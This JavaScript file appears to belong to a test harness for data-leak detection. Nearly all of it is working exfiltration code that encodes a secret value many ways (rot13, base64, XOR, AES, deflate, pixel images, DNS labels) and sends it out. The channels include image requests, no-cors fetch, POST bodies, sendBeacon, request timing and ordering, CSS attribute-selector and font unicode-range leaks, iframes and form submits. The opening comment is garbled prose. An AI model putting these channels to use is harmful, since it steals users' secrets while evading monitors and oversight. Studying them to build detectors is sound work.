// The typed value in writings that are not read by chance, by requests as plain as any page makes.
const bytes = (text) => new TextEncoder().encode(text);
const coded = (raw) => btoa(String.fromCharCode(...new Uint8Array(raw)));
const hex = (text) => [...bytes(text)].map((b) => b.toString(16).padStart(2, "0"));
const codes = (text) => [...text].map((c) => c.charCodeAt());
const bits = (text) => codes(text).flatMap((c) => [...c.toString(2).padStart(8, "0")]);
const rotated = (text) => text.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt() + (c.toLowerCase() < "n" ? 13 : -13)));
const packed = async (text, format) => new Response(new Blob([text]).stream().pipeThrough(new CompressionStream(format))).arrayBuffer();
const ciphered = async (text) => {
  const key = await crypto.subtle.generateKey({ name: "AES-GCM", length: 128 }, true, ["encrypt"]);
  return crypto.subtle.encrypt({ name: "AES-GCM", iv: new Uint8Array(12) }, key, bytes(text));
};
const digested = (text) => crypto.subtle.digest("SHA-256", bytes(text));
const base32 = (text) => bits(text).join("").match(/.{1,5}/g).map((five) => "abcdefghijklmnopqrstuvwxyz234567"[parseInt(five.padEnd(5, "0"), 2)]).join("");
const base85 = (text) => codes(text).map((c) => String.fromCharCode(33 + ((c * 7) % 85)) + String.fromCharCode(33 + Math.floor(c / 12))).join("");
const escaped = (text) => `{"a":"${codes(text).map((c) => `\\u${c.toString(16).padStart(4, "0")}`).join("")}"}`;
const WORDS = "able bake cold deep echo fern gold hush iron jade kite lamp mint nest oval pond".split(" ");
const worded = (text) => hex(text).join("").replace(/./g, (nibble) => `${WORDS[parseInt(nibble, 16)]}-`);
const drawn = (text) => {
  const canvas = make("canvas", { width: text.length, height: 1 });
  const pen = canvas.getContext("2d");
  codes(text).forEach((c, i) => {
    pen.fillStyle = `rgb(${c},${c},${c})`;
    pen.fillRect(i, 0, 1, 1);
  });
  return new Promise((done) => canvas.toBlob(done));
};

const shows = (name, text, part = "") => picture(`${mark(name)}${part}?e=${encodeURIComponent(text)}`);
const asks = (name, text) => fetch(`${mark(name)}?e=${encodeURIComponent(text)}`, { mode: "no-cors" });
const posts = (name, body) => fetch(mark(name), { method: "POST", body, mode: "no-cors" });
const inTurn = async (parts, say) => {
  for (const [index, part] of parts.entries()) await say(part, index);
};

const STAYING = {
  reversed: (name) => shows(name, [...VALUE].reverse().join("")),
  rot13: (name) => shows(name, rotated(VALUE)),
  atbash: (name) => shows(name, VALUE.replace(/[a-z]/g, (c) => String.fromCharCode(219 - c.charCodeAt()))),
  in_thirds: (name) => VALUE.match(/.{1,7}/g).forEach((part, i) => shows(name, part, `/${i}`)),
  by_character: (name) => [...VALUE].forEach((part, i) => shows(name, part, `/${i}`)),
  utf16_hex: (name) => shows(name, codes(VALUE).map((c) => c.toString(16).padStart(4, "0")).join("")),
  utf16_little_hex: (name) => asks(name, codes(VALUE).map((c) => `${c.toString(16).padStart(2, "0")}00`).join("")),
  base64_four_times: (name) => shows(name, btoa(btoa(btoa(btoa(VALUE))))),
  byte_before: (name) => shows(name, coded([255, ...bytes(VALUE)])),
  raw_deflate: async (name) => shows(name, coded(await packed(VALUE, "deflate-raw"))),
  base32_letters: (name) => shows(name, base32(VALUE)),
  base36_number: (name) => shows(name, BigInt(`0x${hex(VALUE).join("")}`).toString(36)),
  base85_signs: (name) => asks(name, base85(VALUE)),
  decimal_codes: (name) => shows(name, codes(VALUE).join(",")),
  octal_codes: (name) => asks(name, codes(VALUE).map((c) => c.toString(8)).join(".")),
  binary_digits: (name) => shows(name, bits(VALUE).join("")),
  morse_signs: (name) => asks(name, bits(VALUE).map((bit) => ".-"[bit]).join("")),
  aes_gcm: async (name) => shows(name, coded(await ciphered(VALUE))),
  xor_pad: (name) => shows(name, coded(bytes(VALUE).map((b, i) => b ^ (91 + i * 7)))),
  sha256: async (name) => shows(name, coded(await digested(VALUE))),
  path_segments: (name) => shows(name, "", `/${hex(VALUE).join("/")}`),
  words_of_a_list: (name) => shows(name, worded(VALUE)),
  hex_with_colons: (name) => shows(name, hex(VALUE).join(":").toUpperCase()),
  percent_thrice: (name) => picture(`${mark(name)}?e=${hex(VALUE).map((h) => `%252525${h}`).join("")}`),
  json_in_base64: (name) => shows(name, btoa(escaped(VALUE))),
  fullwidth_letters: (name) => shows(name, codes(VALUE).map((c) => String.fromCharCode(c + 0xfee0)).join("")),
  zero_width_between: (name) => shows(name, [...VALUE].join("\u200b")),
  letters_between: (name) => asks(name, [...VALUE].join("x")),
  html_entities: (name) => shows(name, codes(VALUE).map((c) => `&#${c};`).join("")),
  quoted_printable: (name) => asks(name, hex(VALUE).map((h) => `=${h.toUpperCase()}`).join("")),
  case_of_letters: (name) => shows(name, bits(VALUE).map((bit) => (bit === "1" ? "A" : "a")).join("")),
  host_label: (name) => fetch(bare(name).replace("//", `//${base32(VALUE)}.`), { mode: "no-cors" }),
  port_by_port: (name) => inTurn(bits(VALUE.slice(0, 4)).join("").match(/../g), (two, i) => fetch(`${THERE.replace(/\d+$/, DOORS[parseInt(two, 2)])}/${path(name)}/${i}`, { mode: "no-cors" })),
  bit_by_path: (name) => inTurn(bits(VALUE.slice(0, 4)), (bit) => fetch(`${THERE}/known/${name}/${bit}`, { mode: "no-cors", cache: "no-store" })),
  number_of_requests: (name) => codes(VALUE.slice(0, 2)).forEach((c, i) => Array.from({ length: c % 8 }, () => fetch(`${mark(name)}/${i}`, { mode: "no-cors", cache: "no-store" }))),
  order_of_requests: (name) => inTurn([0, 1, 2, 3, 4, 5].sort((a, b) => VALUE.charCodeAt(a) - VALUE.charCodeAt(b)), (which) => fetch(`${mark(name)}/${which}`, { mode: "no-cors" })),
  time_between: (name) => inTurn(bits(VALUE[0]), async (bit) => {
    await fetch(mark(name), { mode: "no-cors", cache: "no-store" });
    await later(bit === "1" ? 40 : 5);
  }),
  css_attribute: (name) => {
    add("input", { name: "s", id: name }).setAttribute("value", VALUE);
    style([..."KLMN"].map((c) => `#${name}[value^="${c}"] { background: url(${mark(name)}/${c}) }`).join("\n"));
  },
  css_of_each_letter: (name) => {
    const signs = [...new Set(VALUE)].filter((c) => /\w/.test(c));
    const box = add("div", {});
    box.innerHTML = signs.map(() => "<i></i>").join("");
    box.title = VALUE;
    box.id = name;
    style(signs.map((c, i) => `#${name}[title*="${c}"] i:nth-child(${i + 1}) { list-style: url(${mark(name)}/${c}); display: list-item }`).join("\n"));
  },
  unicode_range: (name) => {
    const faces = [...new Set(VALUE)].map((c) => `@font-face { font-family: f; src: url(${mark(name)}/${c.charCodeAt()}); unicode-range: U+${c.charCodeAt().toString(16)} }`);
    style(faces.join("\n"));
    add("p", { textContent: VALUE }).style.fontFamily = "f";
  },
  media_query_width: (name) => {
    const made = frame({ width: 300 + VALUE.charCodeAt(0) });
    const sizes = [..."KLMN"].map((c) => `@media (width: ${300 + c.charCodeAt()}px) { body { background: url(${mark(name)}/${c}) } }`);
    made.srcdoc = `<style>${sizes.join("\n")}</style><body>x`;
  },
  scroll_to_picture: (name) => {
    const made = frame({ height: 50 });
    made.srcdoc = `<div style="height:4000px"></div><img id=l loading=lazy width=9 height=9 src="${mark(name)}/${VALUE.charCodeAt(0)}"><script>l.scrollIntoView()</script>`;
  },
  fragment_of_frame: (name) => frame({ src: listening(tag(name)) }),
  post_reversed: (name) => posts(name, [...VALUE].reverse().join("")),
  post_rot13: (name) => posts(name, new URLSearchParams({ q: rotated(VALUE) })),
  post_aes_gcm: async (name) => posts(name, await ciphered(VALUE)),
  post_gzip: async (name) => posts(name, await packed(VALUE, "gzip")),
  post_raw_deflate: async (name) => posts(name, await packed(VALUE, "deflate-raw")),
  post_picture: async (name) => posts(name, await drawn(VALUE)),
  post_utf16: (name) => posts(name, new Uint16Array(codes(VALUE))),
  post_size: (name) => posts(name, "x".repeat(1000 + VALUE.charCodeAt(0))),
  post_words: (name) => posts(name, worded(VALUE)),
  beacon_xor: (name) => navigator.sendBeacon(mark(name), bytes(VALUE).map((b) => b ^ 91)),
};
const LEAVING = {
  location_rot13: (name) => (location = `${mark(name)}?e=${rotated(VALUE)}`),
  form_of_digits: (name) => {
    const made = form({ action: mark(name), method: "get" });
    made.e.value = codes(VALUE).join("");
    made.submit();
  },
  form_post_reversed: (name) => {
    const made = form({ action: mark(name) });
    made.e.value = [...VALUE].reverse().join("");
    made.submit();
  },
};
